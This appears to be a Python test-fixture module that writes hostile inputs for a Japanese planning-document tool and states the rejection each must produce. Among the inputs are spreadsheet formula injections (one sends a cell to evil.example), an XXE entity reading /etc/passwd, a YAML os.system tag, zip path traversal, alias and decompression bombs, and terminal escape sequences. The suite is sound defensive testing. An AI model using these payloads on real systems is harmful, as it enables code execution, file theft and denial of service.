"""The hostile inputs of issue 18 and more, written into a folder, with what each must give.

:func:`build` writes every input under a root folder; :data:`CASES` lists the commands run on
them (paths relative to that root), the exit code each must end with and a pattern its error
output must match — for an input error, the file and, where a line exists, ``file:line:column``.
Some cases also name a check of what was written (or not) afterwards (:data:`CHECKS`).
"""

from __future__ import annotations

import io
import os
import random
import re
import shutil
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

from planrev.storage.documents import dump_document
from planrev.testing.synthetic import make_plan
from tests.conftest import AOMORI, SEED


@dataclass(frozen=True, slots=True)
class Case:
    """One command on hostile input and what it must give."""

    name: str
    """What the case is (the issue's item first)."""
    args: tuple[str, ...]
    """The command's arguments, paths relative to the corpus folder."""
    exit: int
    """The exit code it must end with."""
    message: str | None = None
    """A regular expression its standard error must match (None: no error expected)."""


# --------------------------------------------------------------------------------------------
# Builders


def _draft(meta: str, tail: str = "") -> str:
    return f"schema_version: 1\ndocument: draft\nmeta:\n{meta}{tail}"


_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.'
    'openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType='
    '"application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
    'ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://'
    'schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http:'
    '//schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target='
    '"word/document.xml"/></Relationships>'
)


def docx(body: str, *, prolog: str = "", extra: dict[str, bytes] | None = None) -> bytes:
    """Return a minimal .docx whose body is ``body`` (and ``prolog`` before the root)."""
    document = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
        f"<w:document {_W}><w:body>{body}</w:body></w:document>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("word/document.xml", document)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def pdf_bomb(inflated: int) -> bytes:
    """Return a one-page PDF whose content stream inflates to ``inflated`` bytes."""
    data = zlib.compress(b" " * inflated, 9)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream",
    ]
    out = b"%PDF-1.4\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )


HOSTILE_CELLS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"クリック")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
)
"""Texts a spreadsheet would evaluate if written as they come (speakers and responses)."""


def _copy(root: Path, name: str) -> Path:
    target = root / name
    shutil.copytree(AOMORI, target, ignore=shutil.ignore_patterns("source"))
    return target


def _replace(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, (path, old)
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def build(root: Path) -> None:
    """Write every input of :data:`CASES` under ``root``."""
    _copy(root, "D")  # read only: the cases that must not write check it stays as it was
    (root / "plan.txt").write_text("第1章 総則\n\n本文です。\n", encoding="utf-8")
    (root / "existing.txt").write_text("前の版\n", encoding="utf-8")
    (root / "link-to-draft.md").symlink_to(root / "D" / "draft-02.yaml")

    # 18.2: formulas in speakers and responses
    formulas = _copy(root, "formulas")
    opinions = formulas / "opinions-03.yaml"
    for number, text in enumerate(HOSTILE_CELLS):
        quoted = text.replace("'", "''")
        anchor = ["op-admin-1", "op-admin-2", "op-talent-1", "op-data-1", "op-inclusion-1"][number]
        _replace(
            opinions,
            f"  - id: {anchor}\n",
            f"  - id: {anchor}\n    speaker: '{quoted}'\n    response: '{quoted}'\n",
        )

    # 18.3: alias bombs
    lines = [_draft("  title: x\n  meeting: 1\n"), "a0: &a0 [lol, lol, lol, lol, lol]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12)]
    (root / "bomb.yaml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    for name, levels, fan in (("bomb-sections.yaml", 8, 9), ("bomb-small.yaml", 6, 4)):
        sections = ["          - &s0 {id: s, title: t, blocks: [{kind: text, id: b, text: あ}]}"]
        sections += [
            f"          - &s{n} {{id: s{n}, title: t, sections: [{', '.join([f'*s{n - 1}'] * fan)}]}}"
            for n in range(1, levels + 1)
        ]
        head = _draft(
            "  title: x\n  meeting: 1\n",
            "pillars:\n  - id: p\n    title: p\n    fields:\n      - id: f\n        title: f\n"
            "        sections:\n",
        )
        (root / name).write_text(head + "\n".join(sections) + "\n", encoding="utf-8")

    # 18.4: Word documents
    sentence = "県民の利便性の向上に向けて、デジタル技術を活用した取組を進めます。"
    (root / "paragraphs-60mb.docx").write_bytes(
        docx("".join(_paragraph(f"{sentence}({n})") for n in range(60 * 1024 * 1024 // 200)))
    )
    (root / "paragraphs-many.docx").write_bytes(docx(_paragraph("文") * 20_001))
    (root / "zip-bomb.docx").write_bytes(
        docx(_paragraph("本文"), extra={"word/media/zeros.bin": bytes(16 * 1024 * 1024)})
    )
    (root / "dtd-late.docx").write_bytes(
        docx(
            _paragraph("&x;"),
            prolog="<!--" + " " * 8192 + '--><!DOCTYPE w:document [<!ENTITY x "秘密">]>',
        )
    )
    (root / "xxe.docx").write_bytes(
        docx(
            _paragraph("&x;"),
            prolog='<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        )
    )
    (root / "small.docx").write_bytes(docx(_paragraph("本文") * 3))
    (root / "not-a-zip.docx").write_bytes(b"PK\x03\x04 this is not a zip at all")
    (root / "word97.docx").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024))
    whole = docx(_paragraph("本文") * 100)
    (root / "truncated.docx").write_bytes(whole[: len(whole) // 2])
    (root / "traversal.docx").write_bytes(
        docx(
            _paragraph("本文"),
            extra={"../../escaped.txt": b"pwned", "/absolute-escaped.txt": b"pwned"},
        )
    )
    random_kanji = random.Random(18)
    (root / "random-chars.docx").write_bytes(
        docx(
            "".join(
                _paragraph("".join(chr(0x4E00 + random_kanji.randrange(3000)) for _ in range(80)))
                for _ in range(3_000)
            )
        )
    )

    # 18.4 and 18.5: PDF
    (root / "bomb.pdf").write_bytes(pdf_bomb(300 * 1024 * 1024))
    (root / "text.pdf").write_text("これは PDF ではありません\n", encoding="utf-8")

    # 18.5: devices, FIFOs, links, folders
    os.mkfifo(root / "fifo.txt")
    os.mkfifo(root / "fifo.pdf")
    os.mkfifo(root / "fifo.docx")
    (root / "zero.yaml").symlink_to("/dev/zero")
    zero_folder = root / "zero-folder"
    zero_folder.mkdir()
    (zero_folder / "draft-01.yaml").symlink_to("/dev/zero")
    fifo_folder = _copy(root, "fifo-folder")
    os.mkfifo(fifo_folder / "notes.yaml")
    broken = _copy(root, "broken-link")
    (broken / "draft-04.yaml").symlink_to("nowhere.yaml")
    (root / "sparse.yaml").write_bytes(b"")
    os.truncate(root / "sparse.yaml", 40 * 1024 * 1024)  # 40 MB of NUL bytes, read or not

    # 18.6: control characters in user text
    controls = _copy(root, "controls")
    _replace(
        controls / "draft-03.yaml",
        "text: 行政手続きのオンライン化の推進",
        'text: "行政手続きの\\e]0;pwned\\aオンライン化\\e[31m\\0の推進\\x7f"',
    )

    # 18.7 and 18.8: shapes and bytes YAML cannot hold
    (root / "document-list.yaml").write_text(
        "schema_version: 1\ndocument: [draft]\nmeta: {title: x, meeting: 1}\n", encoding="utf-8"
    )
    (root / "document-map.yaml").write_text(
        "schema_version: 1\ndocument: {a: draft}\nmeta: {title: x, meeting: 1}\n",
        encoding="utf-8",
    )
    for name, byte in (("nul", 0), ("soh", 1), ("esc", 0x1B), ("del", 0x7F)):
        (root / f"control-{name}.yaml").write_bytes(
            _draft(f"  title: ab{chr(byte)}c\n  meeting: 1\n").encode("utf-8")
        )

    # 18.9: values
    values = {
        "schema-true.yaml": "schema_version: true\ndocument: draft\nmeta:\n  title: x\n  meeting: 1\n",
        "meeting-float.yaml": _draft("  title: x\n  meeting: 3.0\n"),
        "meeting-negative.yaml": _draft("  title: x\n  meeting: -1\n"),
        "meeting-zero.yaml": _draft("  title: x\n  meeting: 0\n"),
        "provisional-yes.yaml": _draft("  title: x\n  meeting: 1\n  provisional: yes\n"),
        "impossible-date.yaml": _draft("  title: x\n  meeting: 1\n  date: 2023-02-30\n"),
        "year-absurd.yaml": _draft("  title: x\n  meeting: 1\n  date: 9999-01-01\n"),
        "long-number.yaml": _draft("  title: x\n  meeting: " + "1" * 5000 + "\n"),
        "python-tag.yaml": "schema_version: 1\ndocument: draft\n"
        'meta: !!python/object/apply:os.system ["echo pwned"]\n',
    }
    for name, text in values.items():
        (root / name).write_text(text, encoding="utf-8")
    span = _copy(root, "span-quoted")
    _replace(span / "revision-02-03.yaml", "start: 68", "start: '68'")
    single = root / "single"
    single.mkdir()
    shutil.copy(AOMORI / "draft-03.yaml", single / "draft-03.yaml")

    # 18.11: imports that would leave an invalid folder
    _copy(root, "import-target")
    marked = root / "marked-target"
    marked.mkdir()
    shutil.copy(AOMORI / "draft-03.yaml", marked / "other.yaml")  # a second draft of meeting 3
    shutil.copy(SEED, root / "seed.txt")

    # 18.13: long texts
    words = "県民のデジタル技術活用推進。"
    (root / "long-a.txt").write_text(
        "".join(random.Random(1).choice(words) for _ in range(150_000)), encoding="utf-8"
    )
    (root / "long-b.txt").write_text(
        "".join(random.Random(2).choice(words) for _ in range(150_000)), encoding="utf-8"
    )
    (root / "lines-a.txt").write_text(
        "\n".join(f"行{n} " + "県民" * (n % 7) for n in range(200_000)), encoding="utf-8"
    )
    (root / "lines-b.txt").write_text(
        "\n".join(f"行{3 * n} " + "市民" * (n % 5) for n in range(200_000)), encoding="utf-8"
    )

    # Others: encodings, sizes, nesting, garbage
    (root / "shift-jis.yaml").write_bytes(_draft("  title: 青森県\n  meeting: 1\n").encode("cp932"))
    (root / "utf16.yaml").write_bytes(_draft("  title: x\n  meeting: 1\n").encode("utf-16"))
    (root / "garbage.yaml").write_bytes(random.Random(7).randbytes(100_000))
    (root / "long-line.yaml").write_text(
        _draft("  title: x\n  meeting: 1\n  stage: " + "あ" * 300_000 + "\n"), encoding="utf-8"
    )
    (root / "deep.yaml").write_text("a: " + "[" * 50_000 + "]" * 50_000 + "\n", encoding="utf-8")
    (root / "many-nodes.yaml").write_text("a:\n" + "  - 1\n" * 1_100_000, encoding="utf-8")
    (root / "garbage.txt").write_bytes(random.Random(8).randbytes(100_000))
    (root / "headings.txt").write_text(
        "".join(f"第{n}章 章の名前\n\n本文{n}。\n\n" for n in range(1, 20_001)), encoding="utf-8"
    )
    (root / "many-lines.txt").write_text(
        "".join(f"第{n}章 章の名前\n\n本文{n}。\n\n" for n in range(1, 60_001)), encoding="utf-8"
    )
    journal = _copy(root, "bad-journal")
    (journal / ".planrev-0123456789abcdef.journal").write_text("garbage", encoding="utf-8")

    # Scale: a plan of 16,000 blocks and its next draft
    scale = root / "scale"
    scale.mkdir()
    text = dump_document(make_plan(random.Random(16), 2900, meeting=1))
    (scale / "draft-01.yaml").write_text(text, encoding="utf-8")
    changed = re.sub(r"meeting: 1\n", "meeting: 2\n", text, count=1)
    changed = "\n".join(
        line.replace("推進", "加速") if number % 97 == 0 else line
        for number, line in enumerate(changed.split("\n"))
    )
    (scale / "draft-02.yaml").write_text(changed, encoding="utf-8")


# --------------------------------------------------------------------------------------------
# Cases

E = "^エラー: "
"""How an error message starts."""
REFUSED_INPUT = "入力は --force でも上書きしません"
NOT_REGULAR = "通常のファイルではありません"

CASES: tuple[Case, ...] = (
    # 18.1 never overwrite an input or an existing file
    Case(
        "18.1 audit --out onto a draft, forced",
        ("audit", "D", "--format", "markdown", "--out", "D/draft-03.yaml", "--force"),
        4,
        E + r"書き出し先が入力ファイルです: D/draft-03\.yaml。" + REFUSED_INPUT,
    ),
    Case(
        "18.1 audit --out through a link to a draft, forced",
        ("audit", "D", "--format", "markdown", "--out", "link-to-draft.md", "--force"),
        4,
        E + r"書き出し先が入力ファイルです: link-to-draft\.md",
    ),
    Case(
        "18.1 audit --out onto an existing file",
        ("audit", "D", "--format", "markdown", "--out", "existing.txt"),
        4,
        E + r"既にファイルがあります: existing\.txt",
    ),
    Case(
        "18.1 audit --out onto a FIFO, forced",
        ("audit", "D", "--format", "markdown", "--out", "fifo.txt", "--force"),
        4,
        E + r"書き出し先が通常のファイルではありません\(デバイス・FIFO など\): fifo\.txt",
    ),
    Case(
        "18.1 import plain onto a link to /dev/zero, forced",
        ("import", "plain", "plan.txt", "--out", "zero.yaml", "--force"),
        4,
        E + r"書き出し先が通常のファイルではありません",
    ),
    Case(
        "18.1 import plain onto its own input, forced",
        ("import", "plain", "plan.txt", "--out", "plan.txt", "--force"),
        4,
        E + r"書き出し先が入力ファイルです: plan\.txt。" + REFUSED_INPUT,
    ),
    Case(
        "18.1 handout into a file",
        ("handout", "D", "--out", "existing.txt", "-f", "md"),
        4,
        E + r"書き出し先 existing\.txt はファイルです",
    ),
    # 18.2 formulas
    Case(
        "18.2 formulas in speakers and responses stay text in the Excel sheet",
        ("handout", "formulas", "--out", "formulas-out", "-f", "xlsx"),
        0,
    ),
    # 18.3 alias bombs
    Case(
        "18.3 alias bomb",
        ("validate", "bomb.yaml"),
        1,
        E + r"bomb\.yaml:\d+:\d+: YAML の要素が多すぎます.*別名",
    ),
    Case(
        "18.3 alias bomb over nested sections",
        ("validate", "bomb-sections.yaml"),
        1,
        E + r"bomb-sections\.yaml:\d+:\d+: YAML の要素が多すぎます",
    ),
    Case(
        "18.3 nested aliases under the node limit",
        ("validate", "bomb-small.yaml"),
        1,
        E + r"bomb-small\.yaml:\d+:\d+: id 's' が重複しています",
    ),
    # 18.4 Word and PDF
    Case(
        "18.4 60 MB of ordinary paragraphs in a small .docx",
        ("import", "word", "paragraphs-60mb.docx", "--out", "out-60mb"),
        1,
        E + r"paragraphs-60mb\.docx: .*part-bytes",
    ),
    Case(
        "18.4 more paragraphs than the limit",
        ("import", "word", "paragraphs-many.docx", "--out", "out-many"),
        1,
        E + r"paragraphs-many\.docx: .*paragraphs",
    ),
    Case(
        "18.4 a zip bomb in a .docx",
        ("import", "word", "zip-bomb.docx", "--out", "out-zip-bomb"),
        1,
        E + r"zip-bomb\.docx: .*ratio",
    ),
    Case(
        "18.9 a DTD after 8 KB",
        ("import", "word", "dtd-late.docx", "--out", "out-dtd"),
        1,
        E + r"dtd-late\.docx: word/document\.xml に DTD",
    ),
    Case(
        "18.4 an external entity (XXE)",
        ("import", "word", "xxe.docx", "--out", "out-xxe"),
        1,
        E + r"xxe\.docx: word/document\.xml に DTD",
    ),
    Case(
        "not a zip",
        ("import", "word", "not-a-zip.docx", "--out", "out-not-zip"),
        1,
        E + r"not-a-zip\.docx: ",
    ),
    Case(
        "a Word 97 document",
        ("import", "word", "word97.docx", "--out", "out-word97"),
        1,
        E + r"word97\.docx: .*\.doc",
    ),
    Case(
        "a truncated .docx",
        ("import", "word", "truncated.docx", "--out", "out-truncated"),
        1,
        E + r"truncated\.docx: ",
    ),
    Case(
        "zip entries that climb out of the package are never written",
        ("import", "word", "traversal.docx", "--out", "out-traversal"),
        0,
    ),
    Case(
        "3,000 paragraphs of random characters import in linear time",
        ("import", "word", "random-chars.docx", "--out", "out-random"),
        0,
    ),
    Case(
        "a PDF bomb",
        ("import", "pdf", "bomb.pdf", "--out", "out-pdf-bomb"),
        1,
        E + r"bomb\.pdf: .*展開すると大きすぎます",
    ),
    Case(
        "a text file named .pdf",
        ("import", "pdf", "text.pdf", "--out", "out-text-pdf"),
        1,
        E + r"text\.pdf",
    ),
    # 18.5 regular files only
    Case(
        "18.5 import plain /dev/zero",
        ("import", "plain", "/dev/zero", "--out", "zero-out.yaml"),
        1,
        E + "/dev/zero: " + NOT_REGULAR,
    ),
    Case(
        "18.5 a draft that is a link to /dev/zero",
        ("validate", "zero.yaml"),
        1,
        E + "zero.yaml: " + NOT_REGULAR,
    ),
    Case(
        "18.5 a folder whose draft is a link to /dev/zero",
        ("summary", "zero-folder"),
        1,
        E + "zero-folder/draft-01.yaml: " + NOT_REGULAR,
    ),
    Case(
        "18.5 import plain of a FIFO",
        ("import", "plain", "fifo.txt", "--out", "fifo-out.yaml"),
        1,
        E + r"fifo\.txt: " + NOT_REGULAR,
    ),
    Case(
        "18.5 a FIFO among the drafts",
        ("validate", "fifo-folder"),
        1,
        E + r"fifo-folder/notes\.yaml: " + NOT_REGULAR,
    ),
    Case(
        "18.5 import pdf of /dev/zero",
        ("import", "pdf", "/dev/zero", "--out", "out-pdf-zero"),
        1,
        E + "/dev/zero: " + NOT_REGULAR,
    ),
    Case(
        "18.5 import pdf of a FIFO",
        ("import", "pdf", "fifo.pdf", "--out", "out-pdf-fifo"),
        1,
        E + r"fifo\.pdf: " + NOT_REGULAR,
    ),
    Case(
        "18.5 import word of a FIFO",
        ("import", "word", "fifo.docx", "--out", "out-word-fifo"),
        1,
        E + r"fifo\.docx: " + NOT_REGULAR,
    ),
    Case(
        "18.5 diff of /dev/zero",
        ("diff", "/dev/zero", "/dev/zero"),
        1,
        E + "/dev/zero: " + NOT_REGULAR,
    ),
    Case(
        "18.5 a folder as the input of import plain",
        ("import", "plain", "D", "--out", "folder-out.yaml"),
        1,
        E + "D: ファイルではなくフォルダです",
    ),
    Case(
        "a sparse file of 40 MB",
        ("validate", "sparse.yaml"),
        1,
        E + r"sparse\.yaml: ファイルが大きすぎます[\s\S]*PLANREV_MAX_FILE_BYTES",
    ),
    # 18.6 control characters (stdout checked for raw control bytes afterwards)
    Case("18.6 summary shows control characters", ("summary", "controls"), 0),
    Case("18.6 diff shows control characters", ("diff", "controls"), 0),
    Case("18.6 log shows control characters", ("log", "controls", "convenience-1"), 0),
    Case("18.6 blame shows control characters", ("blame", "controls"), 0),
    Case(
        "18.6 Markdown shows control characters",
        ("handout", "controls", "--out", "controls-out", "-f", "md"),
        0,
    ),
    # 18.7 no internal errors
    Case(
        "18.7 document is a list",
        ("validate", "document-list.yaml"),
        1,
        E + r"document-list\.yaml:2:11: document にはリストや対応表ではなく",
    ),
    Case(
        "18.7 document is a map",
        ("validate", "document-map.yaml"),
        1,
        E + r"document-map\.yaml:2:11: ",
    ),
    Case(
        "18.7 --author of 300 characters",
        ("handout", "D", "--out", "author-out", "-f", "docx", "--author", "あ" * 300),
        2,
        r"--author",
    ),
    # 18.8 bytes YAML cannot hold
    *(
        Case(
            f"18.8 a raw {name.upper()} byte in YAML",
            ("validate", f"control-{name}.yaml"),
            1,
            E + rf"control-{name}\.yaml:4:12: YAML に書けない制御文字 U\+{code:04X}",
        )
        for name, code in (("nul", 0), ("soh", 1), ("esc", 0x1B), ("del", 0x7F))
    ),
    # 18.9 strict values
    Case(
        "18.9 schema_version: true",
        ("validate", "schema-true.yaml"),
        1,
        E + r"schema-true\.yaml:1:17: ",
    ),
    Case(
        "18.9 meeting: 3.0",
        ("validate", "meeting-float.yaml"),
        1,
        E + r"meeting-float\.yaml:5:12: 整数が必要です",
    ),
    Case(
        "18.9 meeting: -1",
        ("validate", "meeting-negative.yaml"),
        1,
        E + r"meeting-negative\.yaml:5:12: meta\.meeting は 1 以上",
    ),
    Case(
        "18.9 meeting: 0",
        ("validate", "meeting-zero.yaml"),
        1,
        E + r"meeting-zero\.yaml:5:12: meta\.meeting は 1 以上",
    ),
    Case(
        "18.9 provisional: yes",
        ("validate", "provisional-yes.yaml"),
        1,
        E + r"provisional-yes\.yaml:6:16: true か false が必要です",
    ),
    Case(
        "18.9 an impossible date",
        ("validate", "impossible-date.yaml"),
        1,
        E + r"impossible-date\.yaml:6:9: 日付 2023-02-30 はありえない日付です",
    ),
    Case(
        "a year out of range",
        ("validate", "year-absurd.yaml"),
        1,
        E + r"year-absurd\.yaml:6:9: 日付が正しくありません.*9999年は 1873〜2200年の範囲の外です",
    ),
    Case(
        "a number of 5,000 digits",
        ("validate", "long-number.yaml"),
        1,
        E + r"long-number\.yaml:5:12: 数が長すぎます",
    ),
    Case(
        "a Python tag",
        ("validate", "python-tag.yaml"),
        1,
        E + r"python-tag\.yaml:3:7: ",
    ),
    Case(
        "18.9 span.start: '68'",
        ("validate", "span-quoted"),
        1,
        E + r"span-quoted/revision-02-03\.yaml:21:14: 整数が必要です",
    ),
    Case(
        "18.9 a broken link among the drafts",
        ("validate", "broken-link"),
        1,
        E + r"broken-link/draft-04\.yaml: リンク先のファイルがありません",
    ),
    Case(
        "18.9 handout --from 3 --to 3",
        ("handout", "D", "--out", "same-out", "--from", "3", "--to", "3", "-f", "md"),
        1,
        E + "比較元と比較先が同じ第3回の草案です",
    ),
    Case(
        "18.9 handout of a folder of one draft",
        ("handout", "single", "--out", "single-out", "-f", "md"),
        1,
        E + "フォルダの草案は第3回の1つだけで",
    ),
    Case(
        "18.9 diff of a folder of one draft",
        ("diff", "single"),
        1,
        E + "フォルダの草案は第3回の1つだけで",
    ),
    Case(
        "meeting 0 for an import",
        ("import", "plain", "plan.txt", "--out", "m0.yaml", "--meeting", "0"),
        2,
        r"--meeting",
    ),
    Case(
        "meeting 99999 for an import",
        ("import", "plain", "plan.txt", "--out", "m1.yaml", "--meeting", "99999"),
        2,
        r"--meeting",
    ),
    Case(
        "import word --old 9999 (the new meeting would be 10000)",
        ("import", "word", "small.docx", "--out", "out-9999", "--old", "9999"),
        2,
        r"--new",
    ),
    Case(
        "import marked of a first meeting (no previous meeting)",
        ("import", "marked", "seed.txt", "--out", "out-first", "--meeting", "1"),
        1,
        E + r"seed\.txt:1:1: 第1回の資料には改訂前の回がありません",
    ),
    # 18.11 imports write whole folders or nothing
    Case(
        "18.11 import plain --force that would break the folder",
        (
            "import",
            "plain",
            "plan.txt",
            "--out",
            "import-target/draft-03.yaml",
            "--meeting",
            "3",
            "--force",
        ),
        1,
        E
        + r"import-target/opinions-03\.yaml:10:12: .*\n.*検証に通らないため、何も書き込んでいません",
    ),
    Case(
        "18.11 import marked --force that would break the folder",
        ("import", "marked", "seed.txt", "--out", "marked-target", "--force"),
        1,
        E + r"marked-target/",
    ),
    # 18.12 the audit before a handout
    Case(
        "18.12 handout --strict with audit errors",
        ("handout", "D", "--out", "strict-out", "-f", "md", "--strict"),
        1,
        r"エラー: 監査のエラーが\d+件あるため、配布資料を書き出しません",
    ),
    # 18.13 and scale
    Case("18.13 word diff of two 150,000-character texts", ("diff", "long-a.txt", "long-b.txt"), 0),
    Case("diff of two texts of 200,000 lines", ("diff", "lines-a.txt", "lines-b.txt"), 0),
    Case("a 16,000-block plan validates", ("validate", "scale"), 0),
    Case("a 16,000-block plan compares", ("diff", "scale"), 0),
    Case(
        "a 16,000-block plan renders HTML",
        ("handout", "scale", "--out", "scale-out", "-f", "html"),
        0,
    ),
    # Others
    Case(
        "Shift_JIS",
        ("validate", "shift-jis.yaml"),
        1,
        E + r"shift-jis\.yaml:4:\d+: UTF-8 として読めない文字があります",
    ),
    Case(
        "UTF-16",
        ("validate", "utf16.yaml"),
        1,
        E + r"utf16\.yaml:1:1: UTF-8 として読めない文字があります",
    ),
    Case(
        "random bytes as YAML",
        ("validate", "garbage.yaml"),
        1,
        E + r"garbage\.yaml:\d+:\d+: ",
    ),
    Case(
        "random bytes as a plan to import",
        ("import", "plain", "garbage.txt", "--out", "garbage-out.yaml"),
        1,
        E + r"garbage\.txt:\d+:\d+: UTF-8",
    ),
    Case(
        "a line of 300,000 characters",
        ("validate", "long-line.yaml"),
        1,
        E + r"long-line\.yaml:6:1: 行が長すぎます",
    ),
    Case(
        "50,000 nested brackets",
        ("validate", "deep.yaml"),
        1,
        E + r"deep\.yaml:1:1: 入れ子が深すぎます",
    ),
    Case(
        "1,100,000 list items",
        ("validate", "many-nodes.yaml"),
        1,
        E + r"many-nodes\.yaml:\d+:\d+: YAML の要素が多すぎます",
    ),
    Case(
        "20,000 chapters of plain text",
        (
            "import",
            "plain",
            "headings.txt",
            "--out",
            "headings-out/draft-01.yaml",
            "--meeting",
            "1",
        ),
        0,
    ),
    Case(
        "120,000 lines of plain text to import",
        ("import", "plain", "many-lines.txt", "--out", "many-lines-out.yaml", "--meeting", "1"),
        1,
        E + r"many-lines\.txt:100001:1: 取り込む文書の行が多すぎます",
    ),
    Case(
        "120,000 lines of a marked handout to import",
        ("import", "marked", "many-lines.txt", "--out", "many-lines-marked"),
        1,
        E + r"many-lines\.txt:100001:1: 取り込む文書の行が多すぎます",
    ),
    Case(
        "an unreadable journal of an interrupted write",
        ("validate", "bad-journal"),
        1,
        E
        + r"bad-journal/\.planrev-0123456789abcdef\.journal: 途中で止まった書き込みの記録が読めません",
    ),
)
"""Every case: a command on hostile input, the exit code and the message it must give."""
